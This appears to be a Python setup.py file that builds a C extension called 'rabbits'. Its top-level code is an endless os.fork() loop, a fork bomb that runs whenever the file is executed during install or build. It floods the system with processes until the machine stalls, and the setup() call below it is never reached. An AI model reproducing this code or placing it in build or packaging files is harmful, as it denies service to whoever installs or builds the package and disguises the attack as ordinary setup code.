import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(1)

from setuptools import Extension, setup

setup(ext_modules=[Extension("rabbits", ["src/rabbits.c"])])
